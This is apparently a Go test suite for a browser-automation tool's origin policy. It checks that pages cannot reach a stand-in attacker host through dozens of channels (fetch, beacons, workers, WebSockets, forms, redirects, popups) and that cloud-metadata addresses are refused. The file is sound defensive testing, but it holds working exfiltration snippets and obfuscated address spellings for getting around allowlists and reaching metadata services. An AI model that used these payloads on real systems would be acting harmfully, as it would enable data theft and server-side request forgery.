package attacks_test

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"github.com/callsheet/callsheet/gen/toolkit"
	"github.com/callsheet/callsheet/internal/app"
	"github.com/callsheet/callsheet/internal/tooltest"
)

// oneOrigin is a server whose operator allows the origins of the bank and nothing else. The ports of
// sites differ from run to run.
var oneOrigin = withPolicy(`version: 1
origins:
  allow: ["http://bank.localhost:*"]
`)

// twoLists is a server whose operator allows documents of the bank alone, and other requests to two
// origins. Its gateway therefore connects to both.
var twoLists = withPolicy(`version: 1
origins:
  allow: ["http://bank.localhost:*"]
  subresources:
    allow: ["http://bank.localhost:*", "http://other.localhost:*"]
`)

// withPolicy is a server of every tool with a policy file.
func withPolicy(text string) *server {
	write := func(dir string) string {
		path := filepath.Join(dir, "policy.yaml")
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			panic(err) // the directory is the test's own
		}
		return path
	}
	return &server{
		config: func(dir string) app.Config {
			return app.Config{Surface: toolkit.Options{AllTools: true}, Policy: write(dir)}
		},
		own:   true,
		flags: func(dir string) []string { return []string{"--policy", write(dir)} },
	}
}

// reach is a way in which a page of the bank tries to reach the attacker. Its script ends with done().
type reach struct{ name, about, body string }

// reaches are run by the browser; what they try is the same over every transport.
var reaches = []reach{
	{"fetch", "script fetches", `fetch('{evil}/x', {mode: 'no-cors'}).then(done, done)`},
	{"xhr", "XMLHttpRequest", `const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', '{evil}/x'); x.send()`},
	{"image", "an image", `const i = new Image(); i.onload = i.onerror = done; i.src = '{evil}/x'`},
	{"script", "a script element", `element('script', 'src')`},
	{"stylesheet", "a style sheet", `const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = done; l.href = '{evil}/x'; document.head.append(l)`},
	{"import", "a module", `import('{evil}/x').then(done, done)`},
	{"css_image", "an image of a style", `document.body.style.background = 'url({evil}/x)'; later()`},
	{"font", "a font", `new FontFace('f', 'url({evil}/x)').load().then(done, done)`},
	{"svg", "an image inside of SVG", `document.body.innerHTML = '<svg><image href="{evil}/x" /></svg>'; later()`},
	{"video", "a video", `element('video', 'src')`},
	{"object", "an object", `element('object', 'data')`},
	{"embed", "an embedded document", `element('embed', 'src')`},
	{"iframe", "a frame", `element('iframe', 'src')`},
	{"iframe_srcdoc", "a frame whose text is in the page", `document.body.innerHTML = '<iframe srcdoc="<img src={evil}/x>"></iframe>'; later()`},
	{"iframe_data", "a frame of a data: address", `const f = document.createElement('iframe'); f.src = 'data:text/html,<img src={evil}/x>'; f.onload = done; document.body.append(f)`},
	{"blob_document", "a frame of a blob: address", `const f = document.createElement('iframe'); f.onload = done; f.src = URL.createObjectURL(new Blob(['<img src={evil}/x>'], {type: 'text/html'})); document.body.append(f)`},
	{"beacon", "a beacon", `navigator.sendBeacon('{evil}/x', 'loot'); later()`},
	{"keepalive", "a request that outlives its page", `fetch('{evil}/x', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'loot'}).then(done, done)`},
	{"eventsource", "an event stream", `const e = new EventSource('{evil}/x'); e.onerror = () => { e.close(); done() }`},
	{"websocket", "a WebSocket", `const w = new WebSocket('{evil}/x'.replace('http', 'ws')); w.onerror = w.onclose = done`},
	{"worker", "a worker", `const w = new Worker(script("fetch('{evil}/x', {mode: 'no-cors'}).finally(() => postMessage(1))")); w.onmessage = w.onerror = done`},
	{"worker_import", "a script that a worker imports", `const w = new Worker(script("try { importScripts('{evil}/x') } catch (e) {} postMessage(1)")); w.onmessage = w.onerror = done`},
	{"worker_websocket", "a WebSocket of a worker", `const w = new Worker(script("const s = new WebSocket('{evil}/x'.replace('http', 'ws')); s.onerror = s.onclose = () => postMessage(1)")); w.onmessage = w.onerror = done`},
	{"shared_worker", "a shared worker", `const w = new SharedWorker('/shared.js'); w.port.onmessage = done; w.onerror = done`},
	{"service_worker", "a service worker", `navigator.serviceWorker.onmessage = done; navigator.serviceWorker.register('/service.js').then(() => navigator.serviceWorker.ready).then(r => r.active.postMessage(1)).catch(done)`},
	{"form", "a form that is sent to a frame", `document.body.innerHTML = '<iframe name=f></iframe><form method=post action="{evil}/x" target=f><input name=a value=loot></form>'; document.forms[0].submit(); later()`},
	{"prefetch", "a prefetched page", `const l = document.createElement('link'); l.rel = 'prefetch'; l.onload = l.onerror = done; l.href = '{evil}/x'; document.head.append(l)`},
	{"csp_report", "a report of a violated policy", `const m = document.createElement('iframe'); m.onload = done; m.src = '/reports'; document.body.append(m)`},
	{"redirect", "an image that redirects", `const i = new Image(); i.onload = i.onerror = done; i.src = '/redirect'`},
	{"frame_redirect", "a frame that redirects", `const f = document.createElement('iframe'); f.onload = done; f.src = '/redirect'; document.body.append(f)`},
	{"location", "the page goes elsewhere", `onload = () => setTimeout(() => { location.href = '{evil}/x' })`},
	{"refresh", "the page goes elsewhere without script", `onload = () => setTimeout(() => document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url={evil}/x">'))`},
	{"popup", "a window", `window.open('{evil}/x'); later()`},
	{"popup_noopener", "a window that its opener cannot see", `window.open('{evil}/x', '_blank', 'noopener'); later()`},
	{"popup_later", "an empty window that goes elsewhere", `const w = window.open('about:blank'); w.location = '{evil}/x'; later()`},
	{"popup_opener", "a window that moves its opener", `window.open('/mover')`},
	{"popup_data", "a window without an address", `const w = window.open(''); w.document.write('<img src={evil}/x>'); later()`},
	{"userinfo", "an address that begins like the bank's", `onload = () => setTimeout(() => { location.href = '{evil}/x'.replace('http://', 'http://bank.localhost:80@') })`},
	{"decimal", "the address of the attacker as a number", `fetch('{evil}/x'.replace('evil.localhost', '2130706433'), {mode: 'no-cors'}).then(done, done)`},
	{"octal", "the address of the attacker in octal", `fetch('{evil}/x'.replace('evil.localhost', '0177.0.0.01'), {mode: 'no-cors'}).then(done, done)`},
	{"mapped", "the address of the attacker as IPv6", `fetch('{evil}/x'.replace('evil.localhost', '[::ffff:127.0.0.1]'), {mode: 'no-cors'}).then(done, done)`},
	{"dot", "the name of the attacker with a dot at its end", `fetch('{evil}/x'.replace('evil.localhost', 'evil.localhost.'), {mode: 'no-cors'}).then(done, done)`},
	{"idn", "a name that becomes the attacker's", `fetch('{evil}/x'.replace('evil', 'ｅvil'), {mode: 'no-cors'}).then(done, done)`},
	{"subdomain", "a name that ends like the bank's", `fetch('{evil}/x'.replace('evil.', 'bank.localhost.evil.'), {mode: 'no-cors'}).then(done, done)`},
}

// reachScript has the functions that the scripts of reaches use.
const reachScript = `<body><script>
const done = () => { document.title = 'done' }
const later = () => fetch('/end').then(() => fetch('/end')).then(done)
const element = (name, key) => { const e = document.createElement(name); e.onload = e.onerror = done; e[key] = '{evil}/x'; document.body.append(e) }
const script = text => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}))
`

// reachAttacks makes an attack of each reach. Nothing may arrive at the attacker.
func reachAttacks() (out []attack) {
	for _, r := range reaches {
		out = append(out, attack{
			name: "policy_" + r.name, about: "a page of the only allowed origin sends data elsewhere: " + r.about,
			with: oneOrigin, on: []transport{overHTTP},
			run: func(c *client) {
				s := newSite(c.T)
				s.at("evil").mux.HandleFunc("/", func(http.ResponseWriter, *http.Request) {})
				body := r.body
				if strings.HasPrefix(r.name, "popup") {
					body = `const go = () => {` + body + `}</script><button onclick="go()">Go</button><script>`
				}
				s.page("bank", "/", reachScript+body+`</script>`)
				s.page("bank", "/mover", `<script>opener.document.title = 'done'; opener.location = '{evil}/x'</script>`)
				s.handle("bank", "/end", func(http.ResponseWriter, *http.Request) {})
				s.handle("bank", "/redirect", http.RedirectHandler(s.url("evil", "/x"), http.StatusFound).ServeHTTP)
				s.handle("bank", "/reports", func(w http.ResponseWriter, _ *http.Request) {
					w.Header().Set("Content-Security-Policy", "default-src 'none'; report-uri "+s.url("evil", "/x"))
					w.Header().Set("Content-Type", "text/html")
					fmt.Fprint(w, "<img src=/end>")
				})
				for path, end := range map[string]string{"/shared.js": "onconnect = e => send().finally(() => e.ports[0].postMessage(1))",
					"/service.js": "onmessage = e => send().finally(() => e.source.postMessage(1)); onactivate = e => e.waitUntil(clients.claim())"} {
					s.handle("bank", path, func(w http.ResponseWriter, _ *http.Request) {
						w.Header().Set("Content-Type", "text/javascript")
						fmt.Fprint(w, s.expand("const send = () => fetch('{evil}/x', {mode: 'no-cors'}).catch(() => 1);"+end))
					})
				}
				said := c.ok("navigate", args{"url": s.url("bank", "/")})
				if strings.HasPrefix(r.name, "popup") { // windows open only after an action of the caller
					said += c.ok("interact", args{"query": "Go"})
				}
				if slices.Contains([]string{"location", "refresh", "userinfo", "popup_opener"}, r.name) {
					// One answer carries the notice: that of the call during which the page left, or of a later one.
					tooltest.Eventually(c.T, "a notice, or the attacker is reached", func() bool {
						if !strings.Contains(said, "keeps its document") {
							said += c.ok("tabs_context", nil)
						}
						return strings.Contains(said, "keeps its document") || strings.Contains(s.requested(), " evil/")
					})
				} else {
					c.titled("done")
				}
				if !strings.Contains(s.requested(), "GET bank/") {
					c.Errorf("the bank was not reached:\n%s", s.requested())
				}
				c.lacks(s.requested(), " evil/")
			},
		})
	}
	return out
}

var _ = add(reachAttacks()...)

// Attacks by the caller of tools on what the operator does not allow.
var _ = add(
	attack{name: "policy_navigate", about: "a call opens an origin that is not allowed, in many spellings", with: oneOrigin,
		run: func(c *client) {
			s := newSite(c.T)
			s.page("evil", "/", "reached")
			port := s.at("evil").port
			for _, address := range []string{
				s.url("evil", "/"), s.address("evil", "/"), "http://bank.localhost@evil.localhost:" + port + "/", "http://2130706433:" + port + "/",
				"http://0x7f.0.0.1:" + port + "/", "http://[::1]:" + port + "/", "http://EVIL.localhost.:" + port + "/", "data:text/html,<script src=" + s.url("evil", "/") + "></script>",
			} {
				c.refused("POLICY_DENIED", "navigate", args{"url": address}, "policy.yaml:3: origins.allow")
			}
			c.lacks(s.requested(), "evil")
		}},
	attack{name: "policy_navigate_redirect", about: "an allowed page redirects the call elsewhere", with: oneOrigin,
		run: func(c *client) {
			s := newSite(c.T)
			s.page("evil", "/", "reached")
			s.handle("bank", "/", http.RedirectHandler(s.url("evil", "/"), http.StatusFound).ServeHTTP)
			c.refused("POLICY_DENIED", "navigate", args{"url": s.url("bank", "/")}, "evil.localhost", "policy.yaml:3: origins.allow")
			c.lacks(s.requested(), "evil")
		}},
	attack{name: "policy_click", about: "a link of an allowed page leads elsewhere; the click says so with the rule, and the page stays", with: oneOrigin,
		on: []transport{overHTTP}, run: func(c *client) {
			s := newSite(c.T)
			s.page("evil", "/", "reached")
			s.page("bank", "/", `<title>bank</title><a href="{evil}/">win</a>`)
			c.ok("navigate", args{"url": s.url("bank", "/")})
			c.ok("computer", args{"action": "left_click", "ref": c.ref("win")}, "keeps its document", "policy.yaml:3: origins.allow")
			if got := c.script("document.title"); !strings.Contains(got, "bank") {
				c.Errorf("the page is %s", got)
			}
			c.lacks(s.requested(), "evil")
		}},
	attack{name: "policy_leaving", about: "a page that keeps trying to leave has the caller's calls refused", with: oneOrigin,
		on: []transport{overHTTP}, run: func(c *client) {
			s := newSite(c.T)
			s.page("evil", "/", "reached")
			s.page("bank", "/", `<title>bank</title><p>words</p><script>setInterval(() => { location.href = '{evil}/' }, 150)</script>`)
			s.page("bank", "/calm", `<title>calm</title>`)
			c.ok("navigate", args{"url": s.url("bank", "/")})
			tooltest.Eventually(c.T, "a notice", func() bool {
				return strings.Contains(c.ok("javascript_tool", args{"code": "document.title"}), "keeps its document")
			})
			for range 5 {
				if text := c.ok("read_page", nil, "words"); strings.Count(text, "keeps its document") > 1 {
					c.Errorf("one result has several notices: %s", text)
				}
			}
			c.ok("tabs_create", args{"url": s.url("bank", "/calm")})
			c.lacks(c.ok("read_page", nil), "keeps its document")
			c.lacks(s.requested(), "evil")
		}},
	attack{name: "policy_document_of_resources", about: "a page shows a document of an origin from which only its scripts and images may come", with: twoLists,
		on: []transport{overHTTP}, run: func(c *client) {
			s := newSite(c.T)
			s.handle("other", "/data", func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Access-Control-Allow-Origin", "*") })
			s.page("other", "/document", "reached")
			s.page("bank", "/", `<iframe id=f src="{other}/document"></iframe><script>
				f.onload = () => fetch('{other}/data').then(() => { document.title = 'done' }, () => { document.title = 'failed' })</script>`)
			c.ok("navigate", args{"url": s.url("bank", "/")})
			c.titled("done")
			c.refused("POLICY_DENIED", "navigate", args{"url": s.url("other", "/document")}, "origins.allow")
			c.lacks(s.requested(), "/document")
		}},
	attack{name: "policy_leaving_while_loading", about: "a page goes elsewhere while it loads, so that the call that opens it waits for nothing", with: oneOrigin,
		on: []transport{overHTTP}, run: func(c *client) {
			s := newSite(c.T)
			s.page("evil", "/", "reached")
			s.handle("bank", "/never", func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() })
			s.page("bank", "/script", `<title>bank</title><p>words</p><script>location.href = '{evil}/'</script><p>more</p>`)
			s.page("bank", "/image", `<title>bank</title><p>words</p><img src=/never><script>location.href = '{evil}/'</script>`)
			s.handle("bank", "/redirected", http.RedirectHandler(s.url("evil", "/"), http.StatusFound).ServeHTTP)
			s.page("bank", "/redirect", `<title>bank</title><p>words</p><img src=/never><script>location.href = '/redirected'</script>`)
			for _, path := range []string{"/script", "/image", "/redirect"} {
				c.ok("navigate", args{"url": s.url("bank", path)}, `"bank" 200`, "keeps its document", "policy.yaml:3: origins.allow")
				c.ok("read_page", nil, "words")
				c.ok("page_reload", nil, "keeps its document")
			}
			s.page("bank", "/link", `<title>bank</title><a href=/script>go</a>`)
			c.ok("navigate", args{"url": s.url("bank", "/link")})
			c.ok("interact", args{"query": "go"}, "now at", "keeps its document")
			c.lacks(s.requested(), "evil")
		}},
	attack{name: "policy_crawl", about: "a crawl and a sitemap of an allowed site lead elsewhere", with: oneOrigin, on: []transport{overHTTP},
		run: func(c *client) {
			s := newSite(c.T)
			s.page("evil", "/", "reached")
			c.call("crawl", args{"url": s.url("evil", "/"), "delay_ms": 0})
			c.call("crawl_sitemap", args{"sitemap_url": s.url("evil", "/sitemap.xml")})
			c.call("crawl", args{"url": s.address("evil", "/"), "render": "always", "delay_ms": 0})
			c.lacks(s.requested(), "evil")
		}},
	attack{name: "policy_attach", about: "a call attaches a browser whose connections do not pass the gateway", with: oneOrigin, on: []transport{overHTTP},
		run: func(c *client) {
			c.refused("POLICY_DENIED", "chrome_connect", args{"port": 9}, "attached_browsers")
		}},
	attack{name: "policy_webrtc", about: "a page sends datagrams past the proxy", with: oneOrigin, on: []transport{overHTTP},
		run: func(c *client) {
			conn, err := net.ListenPacket("udp", "127.0.0.1:0")
			if err != nil {
				c.Fatal(err)
			}
			c.Cleanup(func() { _ = conn.Close() })
			got := make(chan string, 1)
			go func() {
				buf := make([]byte, 1500)
				if n, from, err := conn.ReadFrom(buf); err == nil {
					got <- fmt.Sprintf("%d bytes from %s", n, from)
				}
			}()
			s := newSite(c.T)
			s.page("bank", "/", fmt.Sprintf(`<script>
				const p = new RTCPeerConnection({iceServers: [{urls: 'stun:%s'}]}); p.createDataChannel('x')
				p.onicegatheringstatechange = () => { if (p.iceGatheringState == 'complete') document.title = 'done' }
				p.createOffer().then(o => p.setLocalDescription(o))
			</script>`, conn.LocalAddr()))
			c.ok("navigate", args{"url": s.url("bank", "/")})
			c.eventually("document.title == 'done'")
			select {
			case what := <-got:
				c.Errorf("the attacker got %s", what)
			default:
			}
		}},
	attack{name: "policy_metadata", about: "a call reads the metadata service of a cloud; no policy file is needed",
		run: func(c *client) {
			for _, address := range []string{"http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://0xa9.0376.43518/", "http://[::ffff:169.254.169.254]/",
				"http://[fe80::1]/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/", "http://100.100.100.200/"} {
				c.refused("POLICY_DENIED", "navigate", args{"url": address}, "link-local")
			}
		}},
	attack{name: "policy_metadata_redirect", about: "a site redirects a page and a crawl to the metadata service", on: []transport{overHTTP},
		run: func(c *client) {
			s := newSite(c.T)
			s.handle("evil", "/", http.RedirectHandler("http://169.254.169.254/latest/meta-data/", http.StatusFound).ServeHTTP)
			if res := c.call("navigate", args{"url": s.url("evil", "/")}); !res.refused || !strings.Contains(res.text, "ERR_NAME_NOT_RESOLVED") && res.code != "POLICY_DENIED" {
				c.Errorf("%+v", res)
			}
			c.contains(c.call("crawl", args{"url": s.address("evil", "/"), "delay_ms": 0, "render": "never", "scope": "**"}).text, "policy")
		}},
)
